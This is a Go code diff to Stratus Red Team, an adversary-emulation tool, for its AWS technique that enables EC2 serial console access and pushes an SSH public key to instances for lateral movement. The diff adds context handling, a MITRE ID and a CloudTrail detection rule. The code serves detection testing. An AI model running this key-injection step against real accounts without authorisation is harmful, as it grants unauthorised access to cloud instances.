@@ -6,6 +6,7 @@ import (
 	"fmt"
 	"github.com/aws/aws-sdk-go-v2/service/ec2"
 	"github.com/aws/aws-sdk-go-v2/service/ec2instanceconnect"
+	"github.com/datadog/stratus-red-team/v2/internal/utils"
 	"github.com/datadog/stratus-red-team/v2/pkg/stratus"
 	"github.com/datadog/stratus-red-team/v2/pkg/stratus/log"
 	"github.com/datadog/stratus-red-team/v2/pkg/stratus/mitreattack"
@@ -52,31 +53,40 @@ Identify, through CloudTrail's <code>SendSerialConsoleSSHPublicKey</code> event,
 		PrerequisitesTerraformCode: tf,
 		IsIdempotent:               true,
 		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.LateralMovement},
-		Detonate:                   detonate,
-		Revert:                     revert,
+		MitreAttackTechniques:      []string{"T1021.008"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"eventSource": {"ec2-instance-connect.amazonaws.com"}, "eventName": {"SendSerialConsoleSSHPublicKey"}},
+			},
+			FalsePositives: []string{"Administrators troubleshooting instances through the serial console"},
+		},
+		DetonateWithContext: detonate,
+		RevertWithContext:   revert,
 	})
 }
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	ec2Client := ec2.NewFromConfig(providers.AWS().GetConnection())
 	ec2instanceconnectClient := ec2instanceconnect.NewFromConfig(providers.AWS().GetConnection())
 	instanceIDs := strings.Split(params["instance_ids"], ",")
 
 	// Enable serial console access
 	log.Println("Enabling serial console access at the region level")
-	if err := setSerialConsoleEnabled(ec2Client, true); err != nil {
+	if err := setSerialConsoleEnabled(ctx, ec2Client, true); err != nil {
 		return fmt.Errorf("failed to disable serial console access: %v", err)
 	}
 
 	log.Println("Sending SSH public key to " + strconv.Itoa(len(instanceIDs)) + " EC2 instances via serial console")
 	for _, instanceID := range instanceIDs {
 		cleanInstanceID := strings.Trim(instanceID, " \"\n\r")
-		err := sendSerialConsoleSSHPublicKey(ec2instanceconnectClient, cleanInstanceID, publicSSHKey)
+		err := sendSerialConsoleSSHPublicKey(ctx, ec2instanceconnectClient, cleanInstanceID, publicSSHKey)
 		if err != nil {
 			if strings.Contains(err.Error(), "SerialConsoleSessionLimitExceededException") {
 				log.Printf("Serial console session limit exceeded for instance %s. Retrying after waiting 60s...", cleanInstanceID)
-				time.Sleep(60 * time.Second)
-				err = sendSerialConsoleSSHPublicKey(ec2instanceconnectClient, cleanInstanceID, publicSSHKey)
+				if err := utils.SleepWithContext(ctx, 60*time.Second); err != nil {
+					return err
+				}
+				err = sendSerialConsoleSSHPublicKey(ctx, ec2instanceconnectClient, cleanInstanceID, publicSSHKey)
 			}
 			if err != nil {
 				return fmt.Errorf("failed to send SSH public key via serial console to instance %s: %v", cleanInstanceID, err)
@@ -89,7 +99,7 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	return nil
 }
 
-func revert(params map[string]string, providers stratus.CloudProviders) error {
+func revert(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	// Serial console access was already enabled before running Stratus Red Team. Nothing to do
 	if params["serial_console_access_initial_value"] == "true" {
 		log.Println("Serial console access was already enabled before running Stratus Red Team. Keeping it enabled")
@@ -100,7 +110,7 @@ func revert(params map[string]string, providers stratus.CloudProviders) error {
 	// and it's a region-wide setting, we now need to revert it back to its original value (false)
 	ec2Client := ec2.NewFromConfig(providers.AWS().GetConnection())
 	log.Println("Serial console access was disabled before running Stratus Red Team. Disabling it again.")
-	if err := setSerialConsoleEnabled(ec2Client, false); err != nil {
+	if err := setSerialConsoleEnabled(ctx, ec2Client, false); err != nil {
 		return fmt.Errorf("failed to disable serial console access: %v", err)
 	}
 
@@ -108,8 +118,8 @@ func revert(params map[string]string, providers stratus.CloudProviders) error {
 }
 
 // Utility functions
-func sendSerialConsoleSSHPublicKey(ec2instanceconnectClient *ec2instanceconnect.Client, instanceId string, sshPublicKey string) error {
-	_, err := ec2instanceconnectClient.SendSerialConsoleSSHPublicKey(context.Background(), &ec2instanceconnect.SendSerialConsoleSSHPublicKeyInput{
+func sendSerialConsoleSSHPublicKey(ctx context.Context, ec2instanceconnectClient *ec2instanceconnect.Client, instanceId string, sshPublicKey string) error {
+	_, err := ec2instanceconnectClient.SendSerialConsoleSSHPublicKey(ctx, &ec2instanceconnect.SendSerialConsoleSSHPublicKeyInput{
 		InstanceId:   &instanceId,
 		SSHPublicKey: &sshPublicKey,
 	})
@@ -117,12 +127,12 @@ func sendSerialConsoleSSHPublicKey(ec2instanceconnectClient *ec2instanceconnect.
 	return err
 }
 
-func setSerialConsoleEnabled(ec2Client *ec2.Client, enabled bool) error {
+func setSerialConsoleEnabled(ctx context.Context, ec2Client *ec2.Client, enabled bool) error {
 	if enabled {
-		_, err := ec2Client.EnableSerialConsoleAccess(context.Background(), &ec2.EnableSerialConsoleAccessInput{})
+		_, err := ec2Client.EnableSerialConsoleAccess(ctx, &ec2.EnableSerialConsoleAccessInput{})
 		return err
 	} else {
-		_, err := ec2Client.DisableSerialConsoleAccess(context.Background(), &ec2.DisableSerialConsoleAccessInput{})
+		_, err := ec2Client.DisableSerialConsoleAccess(ctx, &ec2.DisableSerialConsoleAccessInput{})
 		return err
 	}
 }